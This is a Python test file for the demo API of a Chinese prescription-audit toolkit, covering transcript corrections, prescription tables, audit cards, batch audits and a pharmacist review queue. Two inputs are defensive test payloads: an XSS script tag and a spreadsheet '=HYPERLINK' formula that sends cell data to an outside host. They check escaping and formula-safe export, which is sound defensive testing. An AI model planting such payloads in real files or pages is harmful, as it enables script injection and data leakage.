"""toolkit.demo_api: what the Gradio demo calls, tested without a browser, gradio or Whisper (spaCy for the visit)."""

from __future__ import annotations

import importlib.util
import json
import re
from pathlib import Path

import pytest

from toolkit import demo_api as api
from toolkit.asr.edit import apply_corrections
from toolkit.asr.records import Correction, Transcript, TranscriptSegment
from toolkit.demo_app import forms, views
from toolkit.errors import InputError
from toolkit.extract.records import Entity, EntityLabel, ExtractedItem, OutpatientRecord, Section
from toolkit.records import AuditReport, Diagnosis, Finding, PrescriptionItem

ROOT = Path(__file__).resolve().parents[2]


def _correction(original: str, corrected: str, offset: int) -> Correction:
    return Correction(
        original=original,
        corrected=corrected,
        start=0.0,
        end=2.0,
        offset=offset,
        kind="drug",
        term_id=None,
        reason="pinyin 1.00",
        score=0.9,
    )


def _transcript() -> Transcript:
    text = "二型糖尿病，二甲双胍0.5克每日三次，加用阿卡波糖50毫克"
    c1 = _correction("二甲双呱", "二甲双胍", text.index("二甲双胍"))
    c2 = _correction("阿卡波唐", "阿卡波糖", text.index("阿卡波糖"))
    return Transcript(
        text=text, segments=(TranscriptSegment(start=0, end=4, text=text),), corrections=(c1, c2)
    )


# --------------------------------------------------------------------------- corrections


def test_all_corrections_kept_leaves_the_transcript_as_is():
    t = _transcript()
    assert apply_corrections(t, [0, 1]) == t.text


def test_unticking_a_correction_restores_its_original_words_only():
    t = _transcript()
    assert apply_corrections(t, [1]) == "二型糖尿病，二甲双呱0.5克每日三次，加用阿卡波糖50毫克"
    assert apply_corrections(t, [0]) == "二型糖尿病，二甲双胍0.5克每日三次，加用阿卡波唐50毫克"


def test_undoing_a_correction_of_different_length_keeps_later_offsets_valid():
    text = "给予倍他乐克和阿司匹林"
    t = Transcript(
        text=text,
        corrections=(
            _correction("美托", "倍他乐克", 2),
            _correction("阿斯匹林", "阿司匹林", text.index("阿司匹林")),
        ),
    )
    assert apply_corrections(t, []) == "给予美托和阿斯匹林"


def test_a_correction_that_no_longer_matches_its_offset_is_left_alone():
    t = Transcript(text="加用阿卡波糖", corrections=(_correction("二甲双呱", "二甲双胍", 0),))
    assert apply_corrections(t, []) == "加用阿卡波糖"


def test_correction_choices_show_original_arrow_corrected_with_index_values():
    choices = views.correction_choices(_transcript())
    assert [v for _, v in choices] == [0, 1]
    assert choices[0][0].startswith("二甲双呱 → 二甲双胍")


# --------------------------------------------------------------------------- record widgets


def test_highlight_covers_the_text_and_labels_entities_in_chinese():
    text = "头晕三天，给予氨氯地平5mg"
    ents = (
        Entity(label=EntityLabel.SYMPTOM, start=0, end=2, text="头晕"),
        Entity(label=EntityLabel.DRUG, start=7, end=11, text="氨氯地平"),
        Entity(label=EntityLabel.DRUG, start=8, end=10, text="氯地"),  # overlaps: dropped
        Entity(label=EntityLabel.STRENGTH, start=11, end=14, text="5mg"),
    )
    pieces = views.highlight(text, ents)
    assert "".join(p for p, _ in pieces) == text
    assert [(p, lab) for p, lab in pieces if lab] == [("头晕", "症状"), ("氨氯地平", "药品"), ("5mg", "规格")]


def test_negated_entities_are_marked():
    pieces = views.highlight(
        "否认胸痛", (Entity(label=EntityLabel.SYMPTOM, start=2, end=4, text="胸痛", negated=True),)
    )
    assert pieces == [("否认", None), ("胸痛", "症状(否定)")]


def test_item_rows_round_trip_through_the_editable_table():
    items = (
        PrescriptionItem(
            drug="硝苯地平控释片",
            strength="30 mg",
            dose=30,
            unit="mg",
            frequency="qd",
            route="口服",
            days=28,
            note="晨服",
        ),
    )
    rows = views.item_rows(items)
    assert rows == [["硝苯地平控释片", "30 mg", 30, "mg", "qd", "口服", 28, "晨服"]]
    back = api.items_from_rows(rows)
    assert back[0].model_dump(exclude={"line"}) == items[0].model_dump(exclude={"line"})


def test_table_rows_skip_blank_lines_and_read_numbers_given_as_text():
    rows = [
        ["", "", "", "", "", "", "", ""],
        ["二甲双胍片", "0.5 g", "0.5", "g", "tid", "口服", "30", ""],
        [None, None, float("nan"), None, None, None, None, None],
    ]
    items = api.items_from_rows(rows)
    assert len(items) == 1 and items[0].dose == 0.5 and items[0].days == 30 and items[0].line == 1


def test_a_bad_number_in_the_table_names_the_row_and_column():
    with pytest.raises(InputError, match="第2行「天数」应为数字"):
        api.items_from_rows(
            [
                ["阿司匹林", "", 100, "mg", "qd", "口服", 30, ""],
                ["氯吡格雷", "", 75, "mg", "qd", "口服", "一个月", ""],
            ]
        )


def test_a_row_without_a_drug_name_is_refused():
    with pytest.raises(InputError, match="第1行缺少药品名称"):
        api.items_from_rows([["", "", 5, "mg", "qd", "", "", ""]])


# --------------------------------------------------------------------------- cards


def _report(*findings: Finding, status: str = "flagged") -> AuditReport:
    return AuditReport(id="T", status=status, findings=findings)  # type: ignore[arg-type]


def _finding(sev: str, message: str = "问题", rule: str = "RX-X-001") -> Finding:
    return Finding.model_validate(
        {
            "rule_id": rule,
            "category": "dose",
            "severity": sev,
            "message": message,
            "evidence": {"daily": 40, "limit": [20], "population": "elderly"},
            "references": ["说明书"],
        }
    )


def test_cards_are_coloured_by_severity_and_ordered_block_first():
    html = views.findings_html(
        _report(_finding("info", rule="RX-I"), _finding("block", rule="RX-B"), _finding("warn", rule="RX-W"))
    )
    assert html.index('data-rule="RX-B"') < html.index('data-rule="RX-W"') < html.index('data-rule="RX-I"')
    assert "#b91c1c" in html and "#b45309" in html and "#1d4ed8" in html
    assert "【拦截】" in html and "依据：日剂量：40；限值：20；人群：老年人" in html and ">说明书<" in html
    assert "来源：" in html and "审核结果：需干预" in html


def test_long_evidence_lists_are_summarised():
    """Issue 19: a rule printing 50 ICD-10 ranges shows a short summary, not the whole list."""
    codes = [f"E{n:02d}" for n in range(50)]
    f = Finding.model_validate(
        {
            "rule_id": "RX-IND-001",
            "category": "indication",
            "severity": "info",
            "message": "m",
            "evidence": {"accepted_icd10": codes},
        }
    )
    html = views.findings_html(_report(f))
    assert "E00、E01、E02、E03、E04、E05 等共 50 项" in html and "E49" not in html


def test_no_emoji_status_mark():
    html = views.findings_html(_report(status="ok"))
    assert "【通过】" in html and not any(ord(ch) > 0xFFFF or 0x2600 <= ord(ch) <= 0x27BF for ch in html)


def test_card_text_is_escaped():
    html = views.findings_html(_report(_finding("warn", message="<script>alert(1)</script>")))
    assert "<script>" not in html and "&lt;script&gt;" in html


def test_no_findings_and_audit_errors_say_so():
    assert "未发现问题" in views.findings_html(_report(status="ok"))
    err = AuditReport(id="T", status="error", error="patient.age: <bad>")
    assert "无法审核" in views.findings_html(err) and "&lt;bad&gt;" in views.findings_html(err)


# --------------------------------------------------------------------------- drafts (no spaCy: records built by hand)


def _record() -> OutpatientRecord:
    text = "诊断原发性高血压，给予苯磺酸氨氯地平片5毫克，每日一次，口服"
    return OutpatientRecord(
        text_length=len(text),
        age=66,
        sex="M",
        sections=(
            Section(name="诊断", start=0, end=8, text="诊断原发性高血压"),
            Section(name="处理", start=9, end=len(text), text=text[9:]),
        ),
        diagnoses=(Diagnosis(name="原发性高血压", icd10="I10"),),
        items=(
            ExtractedItem(
                drug="苯磺酸氨氯地平片",
                drug_id="amlodipine",
                strength="5 mg",
                frequency="qd",
                route="口服",
                start=11,
                end=len(text),
            ),
        ),
    )


def _draft() -> api.Draft:
    from toolkit.visit import from_record

    text = "诊断原发性高血压，给予苯磺酸氨氯地平片5毫克，每日一次，口服"
    return from_record(_record(), text, id="门诊-1")


def test_editing_the_table_is_what_gets_audited():
    draft = _draft()
    assert "RX-FMT-003" in {f.rule_id for f in draft.report.findings}  # dose, unit, days not in this record
    rows = views.item_rows(draft.case.prescription.items)
    rows[0][2], rows[0][3], rows[0][6] = 5, "mg", 28
    new = api.redraft(draft, views.section_values(draft), rows)
    assert new.case.prescription.items[0].dose == 5 and new.case.prescription.items[0].days == 28
    assert "RX-FMT-003" not in {f.rule_id for f in new.report.findings}


def test_section_edits_reach_the_audit_and_empty_sections_are_dropped():
    draft = _draft()
    sections = {**views.section_values(draft), "主诉": "头晕3天", "现病史": "   "}
    new = api.redraft(draft, sections, views.item_rows(draft.case.prescription.items))
    assert new.case.record["主诉"] == "头晕3天" and "现病史" not in new.case.record


def test_section_values_fill_guidance_and_follow_up_from_the_care_plan():
    draft = _draft()
    values = views.section_values(draft)
    assert list(values) == list(api.RECORD_SECTIONS)
    assert values["诊断"] == "诊断原发性高血压" and values["随访"] == draft.plan.to_record_fields()["随访"]


def test_care_html_shows_control_status_and_escapes():
    html = views.care_html(_draft().plan)
    assert "高血压" in html and "随访" in html


def test_export_writes_json_and_fhir(tmp_path):
    draft = _draft()
    json_path, fhir_path = api.export_draft(draft, tmp_path)
    doc = json.loads(json_path.read_text(encoding="utf-8"))
    assert doc["audit"]["id"] == "门诊-1" and doc["record"]["diagnoses"][0]["icd10"] == "I10"
    assert doc["prescription"]["items"][0]["drug"] == "苯磺酸氨氯地平片" and "care" in doc
    if importlib.util.find_spec("fhir.resources") is None:
        assert fhir_path is None
    else:
        assert fhir_path is not None
        assert json.loads(fhir_path.read_text(encoding="utf-8"))["resourceType"] == "Bundle"


# --------------------------------------------------------------------------- one prescription


def test_pasted_json_errors_name_the_field():
    with pytest.raises(InputError, match=r"patient\.age"):
        forms.case_from_json('{"patient": {"age": 300}}')
    with pytest.raises(InputError, match="JSON 格式错误：第1行"):
        forms.case_from_json("{bad")
    with pytest.raises(InputError, match="一个对象"):
        forms.case_from_json("[]")


def test_the_form_becomes_a_case_and_the_json_box_is_merged_over_it():
    form = forms.PrescriptionForm(
        case_id="F-1",
        age=45,
        sex="F",
        allergies="青霉素；磺胺",
        diagnoses="急性上呼吸道感染 J06.9",
        labs={"egfr": 80, "alt": None},
        items=[["阿莫西林胶囊", "0.25 g", 0.5, "g", "tid", "口服", 5, ""]],
        extra_json='{"patient": {"labs": {"potassium": 4.1}}, "record": {"主诉": "咽痛"}}',
    )
    case = forms.case_from_form(form)
    assert case.id == "F-1" and case.patient.allergies == ("青霉素", "磺胺")
    assert case.patient.labs == {"potassium": 4.1}  # the JSON box's labs replace the form's, as documented
    assert case.patient.diagnoses[0].icd10 == "J06.9" and case.record == {"主诉": "咽痛"}
    report = api.audit_case(case)
    assert "RX-ALG-001" in {f.rule_id for f in report.findings}  # penicillin allergy vs amoxicillin


def test_example_cases_load():
    ids = [c.id for c in api.example_cases()]
    assert ids[:2] == ["RX-1", "RX-2"]


# --------------------------------------------------------------------------- batch


def test_audit_file_reports_progress_and_writes_both_reports(tmp_path):
    seen: list[tuple[float, str]] = []
    result = api.audit_file(
        ROOT / "toolkit" / "examples" / "cases.jsonl",
        tmp_path,
        on_progress=lambda f, stage: seen.append((f, stage)),
        poll_seconds=0.05,
    )
    # one bar over auditing and writing both reports: never back, 100 % once, at the very end
    fractions = [f for f, _ in seen]
    assert fractions == sorted(fractions) and fractions.count(1.0) == 1 and seen[-1] == (1.0, "完成")
    assert {"写 Excel 报告", "写 HTML 报告"} <= {stage for _, stage in seen}
    assert result.excel.is_file() and result.html.is_file()
    assert result.cases == 5 and result.total.prescriptions == 5 and result.total.irrational == 3
    charts = views.batch_charts_html(result)
    assert "不合理处方率 60.0%（3/5 张可审核处方）" in charts and "问题类别" in charts
    assert sum(r[1] for r in views.doctor_rows(result)) == 5


# --------------------------------------------------------------------------- pharmacist queue


@pytest.fixture()
def store(tmp_path):
    pytest.importorskip("sqlalchemy")
    pytest.importorskip("alembic")
    s = api.open_store(f"sqlite:///{tmp_path / 'q.db'}")
    yield s
    s.writer.close()


def test_queue_orders_by_severity_and_passed_audits_stay_out(store):
    cases = {c.id: c for c in api.example_cases()}
    assert api.submit_for_review(store, api.audit_case(cases["RX-1"])) is None  # ok: nothing to review
    warn = _report(_finding("warn", rule="RX-W"))
    warn_id = api.submit_for_review(store, warn)
    block_id = api.submit_for_review(store, api.audit_case(cases["RX-2"]))
    rows = views.queue_rows(store)
    assert [r[0] for r in rows] == [block_id, warn_id]
    assert rows[0][1] == "RX-2" and rows[0][2] == "拦截"
    assert "RX-2" in views.queue_detail_html(store, block_id)


def test_decisions_are_checked_then_stored_and_leave_the_queue(store):
    audit_id = api.submit_for_review(store, _report(_finding("block", rule="RX-B")))
    assert audit_id is not None
    with pytest.raises(InputError, match="需要填写理由"):
        api.decide(store, audit_id, "return", "李药师")
    with pytest.raises(InputError, match="开方医师签名"):
        api.decide(store, audit_id, "override", "李药师", reason="病情需要")
    with pytest.raises(InputError, match="审方药师"):
        api.decide(store, audit_id, "pass", " ")
    with pytest.raises(InputError, match="未知的审核结论"):
        api.decide(store, audit_id, "approve", "李药师")
    assert views.queue_rows(store)[0][0] == audit_id
    msg = api.decide(
        store, audit_id, "override", "李药师", reason="病情需要，已告知患者", prescriber="王医生"
    )
    assert msg.startswith("已记录：双签放行")
    decisions, _ = store.decisions(audit_id)
    assert [(d.decision, d.prescriber, d.rule_ids) for d in decisions] == [("override", "王医生", ["RX-B"])]
    assert views.queue_rows(store) == []


def test_empty_form_numbers_are_unknown_not_zero():
    assert forms.parse_number("", "eGFR") is None and forms.parse_number(None, "eGFR") is None
    assert forms.parse_number(" 52 ", "eGFR") == 52.0
    with pytest.raises(InputError, match="「eGFR」应为数字"):
        forms.parse_number("五十", "eGFR")


# --------------------------------------------------------------------------- one source of truth (issue 13)

DICTATED = (
    "患者女四十岁，咽痛三天。否认药物过敏史。查体咽部充血。诊断急性扁桃体炎。"
    "处理：阿莫西林胶囊0.5克一天三次，开五天。"
)


def test_an_allergy_typed_into_the_record_blocks_on_re_audit():
    pytest.importorskip("spacy")
    draft = api.draft_record(DICTATED)
    assert not any(f.category.value == "allergy" for f in draft.report.findings)
    sections = {**views.section_values(draft), "过敏史": "青霉素过敏"}
    new = api.redraft(draft, sections, views.item_rows(draft.case.prescription.items))
    assert new.case.patient.allergies == ("青霉素",)
    assert any(f.category.value == "allergy" and f.severity.value == "block" for f in new.report.findings)
    assert "青霉素" in views.facts_markdown(new)


def test_age_typed_into_the_header_reaches_the_audit():
    pytest.importorskip("spacy")
    draft = api.draft_record(DICTATED.replace("患者女四十岁，", ""))
    assert draft.case.patient.age is None
    new = api.redraft(
        draft,
        views.section_values(draft),
        views.item_rows(draft.case.prescription.items),
        header=forms.header_from_form("王五", "F", "7", "全科", "2026-12-07", "李医生"),
    )
    assert new.case.patient.age == 7 and new.header.name == "王五"


def test_exports_are_the_table_as_edited_one_prescription(tmp_path):
    pytest.importorskip("spacy")
    draft = api.draft_record(DICTATED)
    rows = views.item_rows(draft.case.prescription.items)
    rows.append(["布洛芬缓释胶囊", "", 0.3, "g", "bid", "口服", 3, ""])
    rows.append(["对乙酰氨基酚片", "", 0.5, "g", "prn", "口服", 3, ""])
    new = api.redraft(draft, views.section_values(draft), rows)
    json_path, fhir_path = api.export_draft(new, tmp_path)
    doc = json.loads(json_path.read_text(encoding="utf-8"))
    table = [r[0] for r in rows]
    assert [i["drug"] for i in doc["prescription"]["items"]] == table
    assert [i["drug"] for i in doc["items"]] == table
    assert "case" not in doc and doc["audit"]["id"] == new.report.id
    if fhir_path is not None:
        bundle = json.loads(fhir_path.read_text(encoding="utf-8"))
        meds = [
            e["resource"]["medicationCodeableConcept"]["text"]
            for e in bundle["entry"]
            if e["resource"]["resourceType"] == "MedicationRequest"
        ]
        assert meds == table


def test_toggling_a_correction_keeps_the_doctors_edits():
    pytest.importorskip("spacy")
    text = "二型糖尿病复诊。诊断2型糖尿病。处理：二甲双胍0.5克每日三次，加用阿卡波糖50毫克一天三次，开四周。"
    c1 = _correction("二甲双呱", "二甲双胍", text.index("二甲双胍"))
    t = Transcript(text=text, segments=(TranscriptSegment(start=0, end=9, text=text),), corrections=(c1,))
    draft = api.draft_record(text, transcript=t)
    sections = {**views.section_values(draft), "过敏史": "磺胺过敏"}
    rows = views.item_rows(draft.case.prescription.items)
    rows[1][6] = 14  # the doctor shortens acarbose to 14 days
    new = api.toggle_corrections(draft, t, [], sections, rows)  # untick the correction
    assert "二甲双呱" in new.text
    assert new.sections["过敏史"] == "磺胺过敏" and new.case.patient.allergies == ("磺胺",)
    assert [(i.drug, i.days) for i in new.items][1] == ("阿卡波糖", 14.0)
    back = api.toggle_corrections(
        new, t, [0], views.section_values(new), views.item_rows(new.case.prescription.items)
    )
    assert (
        back.items[0].drug == "二甲双胍"
        and back.items[1].days == 14.0
        and back.sections["过敏史"] == "磺胺过敏"
    )


def test_print_view_has_the_header_the_record_and_the_prescription_escaped():
    pytest.importorskip("spacy")
    draft = api.draft_record(
        DICTATED,
        header={"name": "<b>张三</b>", "department": "全科", "date": "2026-12-07", "doctor": "李医生"},
    )
    page = views.print_html(draft)
    assert "门诊病历" in page and "处方笺" in page and "Rp" in page
    assert "&lt;b&gt;张三&lt;/b&gt;" in page and "<b>张三</b>" not in page
    assert "阿莫西林胶囊" in page and "每次0.5g" in page and "共5天" in page and "急性扁桃体炎" in page
    assert "http" not in page  # nothing loaded from outside


# --------------------------------------------------------------------------- issue 19 / issue 16 (demo)

BATCH_CSV = (
    "处方号,医生,年龄,过敏史,诊断,药品名称,规格,单次剂量,剂量单位,频次,给药途径,用药天数\n"
    "B1,王医生,70,青霉素,急性扁桃体炎 J03.9,阿莫西林胶囊,0.25 g,0.5,g,tid,口服,5\n"
    ",王医生,60,,原发性高血压 I10,苯磺酸氨氯地平片,5 mg,5,mg,qd,口服,7\n"
    "B3,李医生,50,,原发性高血压 I10,苯磺酸氨氯地平片,5 mg,两片,mg,qd,口服,7\n"
    "B4,李医生,50,,原发性高血压 I10,苯磺酸氨氯地平片,5 mg,5,mg,qd,口服,7\n"
)


def test_batch_tables_name_flagged_cases_and_error_rows(tmp_path):
    src = tmp_path / "his.csv"
    src.write_text(BATCH_CSV, encoding="utf-8")
    result = api.audit_file(src, tmp_path / "out", poll_seconds=0.05)
    flagged = views.flagged_rows(result)
    assert [r[1] for r in flagged] == ["B1", "", "B3"]  # the empty 处方号 row is not "(未填写)"
    assert flagged[0][4] == "拦截" and flagged[1][3] == "无法审核"
    errors = views.error_rows(result)
    assert [(r[1], r[2]) for r in errors] == [(3, ""), (4, "B3")]
    assert errors[0][4] == "第3行 处方号：处方号为空" and "不是数字" in errors[1][4]
    assert not [r for r in errors if re.search(r"[A-Za-z]{4,}", r[4])]  # no English, no file path
    assert [r[1] for r in views.flagged_rows(result, level="无法审核")] == ["", "B3"]
    assert [r[1] for r in views.flagged_rows(result, text="青霉素")] == ["B1"]
    opened = views.batch_case_html(result, 1)
    assert "处方号 B1" in opened and 'data-rule="RX-ALG-001"' in opened
    assert views.batch_case_html(result, 99) == ""
    charts = views.batch_charts_html(result)
    assert "不合理处方率 50.0%（1/2 张可审核处方）" in charts and "无法审核 2 张" in charts


def test_error_text_drops_paths_and_english_asides():
    assert (
        views.error_text("file /tmp/x/his.csv row 4: field 'dose'（单次剂量）: '两片' 不是数字")
        == "第4行 单次剂量：'两片' 不是数字"
    )
    assert (
        views.error_text("file a.csv row 3 field 'rx_id': 处方号为空（prescription id is empty）")
        == "第3行 处方号：处方号为空"
    )


def test_correction_labels_name_the_kind_and_leave_out_seconds_of_a_one_segment_clip():
    from toolkit.asr import Transcript
    from toolkit.asr.records import Correction, TranscriptSegment

    one = Transcript(
        text="阿莫西林舞毫克",
        duration=2.0,
        language="zh",
        segments=(TranscriptSegment(start=0.0, end=2.0, text="阿莫西林舞毫克"),),
        corrections=(
            Correction(
                original="阿莫西林舞",
                corrected="阿莫西林五",
                start=0.0,
                end=2.0,
                offset=0,
                kind="record",
                reason="r",
                score=1.0,
            ),
            Correction(
                original="二甲双呱",
                corrected="二甲双胍",
                start=0.0,
                end=2.0,
                offset=0,
                kind="drug",
                reason="r",
                score=1.0,
            ),
        ),
    )
    labels = [label for label, _ in views.correction_choices(one)]
    assert labels == ["阿莫西林舞 → 阿莫西林五（数字）", "二甲双呱 → 二甲双胍（药名同音）"]
    two = one.model_copy(
        update={"segments": (*one.segments, TranscriptSegment(start=2.0, end=3.5, text="x"))}
    )
    assert "0.0 秒" in views.correction_choices(two)[0][0]


def test_demo_examples_are_named_by_what_they_show_and_fill_the_form():
    expected = {
        "ACEI+ARB 联用": "RX-DDI-001",
        "肾功能不全（eGFR 25 用二甲双胍）": "RX-CI-049",
        "青霉素过敏（开阿莫西林）": "RX-ALG-001",
        "华法林 + NSAID（出血风险）": "RX-DDI-020",
        "老年人多重用药（84 岁，5 种药）": "RX-POP-004",
        "过敏原写法未识别（PCN）": "RX-ALG-002",
    }
    for title, case in forms.demo_examples():
        v = forms.form_values(case)
        form = forms.PrescriptionForm(
            case_id=v["case_id"],
            age=forms.parse_number(v["age"], "年龄"),
            sex=v["sex"],
            allergies=v["allergies"],
            diagnoses=v["diagnoses"],
            items=v["items"],
            labs=dict(zip(forms.FORM_LABS, [forms.parse_number(x, "x") for x in v["labs"]], strict=True)),
            prescriber=v["prescriber"],
            extra_json=v["extra"],
        )
        from_form, direct = api.audit_case(forms.case_from_form(form)), api.audit_case(case)
        assert sorted(f.rule_id for f in from_form.findings) == sorted(f.rule_id for f in direct.findings), (
            title
        )
        if title in expected:
            assert expected[title] in {f.rule_id for f in direct.findings}, title
        else:
            assert direct.status == "ok", title


def test_a_pass_of_a_blocked_prescription_needs_a_reason_and_a_second_decision_conflicts(store):
    audit_id = api.submit_for_review(store, _report(_finding("block", rule="RX-B")))
    assert "含拦截问题" in views.decision_target_html(
        store, audit_id
    ) and "处方号 T" in views.decision_target_html(store, audit_id)
    with pytest.raises(InputError, match="拦截问题，审核通过需要填写理由"):
        api.decide(store, audit_id, "pass", "李药师")
    with pytest.raises(InputError, match="未知的理由代码"):
        api.decide(store, audit_id, "pass", "李药师", reason_code="because")
    # a standard reason code alone is a reason
    msg = api.decide(store, audit_id, "pass", "李药师", reason_code="not-applicable")
    assert msg.startswith("已记录：审核通过")
    with pytest.raises(InputError, match="已有审核结论"):
        api.decide(store, audit_id, "return", "李药师", reason="再退回")
    decisions, _ = store.decisions(audit_id)
    assert [(d.decision, d.reason_code, d.reason) for d in decisions] == [("pass", "not-applicable", None)]
    warn_id = api.submit_for_review(store, _report(_finding("warn", rule="RX-W")))
    assert api.decide(store, warn_id, "pass", "张药师").startswith(
        "已记录：审核通过"
    )  # no 拦截: no reason needed


def test_decisions_view_filters_and_exports_formula_safe(store, tmp_path):
    a = api.submit_for_review(store, _report(_finding("block", rule="RX-B")))
    b = api.submit_for_review(store, _report(_finding("warn", rule="RX-W")))
    api.decide(
        store,
        a,
        "override",
        "李药师",
        reason='=HYPERLINK("http://x/?"&A1,"点")',
        prescriber="@王医生",
        reason_code="benefit-outweighs-risk",
    )
    api.decide(store, b, "return", "张药师", reason="剂量过大")
    rows = views.decision_rows(store)
    assert [r[2] for r in rows] == ["退回医师", "双签放行"]  # newest first
    assert [r[3] for r in views.decision_rows(store, person="李")] == ["李药师"]
    by_cosigner = views.decision_rows(store, person="王医生")
    assert [r[3] for r in by_cosigner] == ["李药师"]  # the co-signer counts too
    assert [r[2] for r in views.decision_rows(store, decision="return")] == ["退回医师"]
    assert views.decision_rows(store, since="2000-01-01", until="2000-01-02") == []
    today = views.today()
    assert len(views.decision_rows(store, since=today, until=today)) == 2
    with pytest.raises(InputError, match="应为日期"):
        views.decision_rows(store, since="昨天")
    assert rows[1][4] == "已评估获益大于风险"
    csv_path, xlsx_path = views.export_decisions(rows, tmp_path)
    text = csv_path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'@王医生" in text
    from openpyxl import load_workbook

    ws = load_workbook(xlsx_path).active
    values = [c.value for row in ws.iter_rows(min_row=2) for c in row]
    assert all(not (isinstance(v, str) and v[:1] in "=+-@") for v in values), values
    assert ws["A1"].value == "时间"


def test_override_reasons_are_the_services_codes():
    from toolkit.service.cds import OVERRIDE_REASONS

    choices = views.override_reason_choices()
    assert choices[0] == ("（不选）", "") and [c for _, c in choices[1:]] == [
        r["code"] for r in OVERRIDE_REASONS
    ]
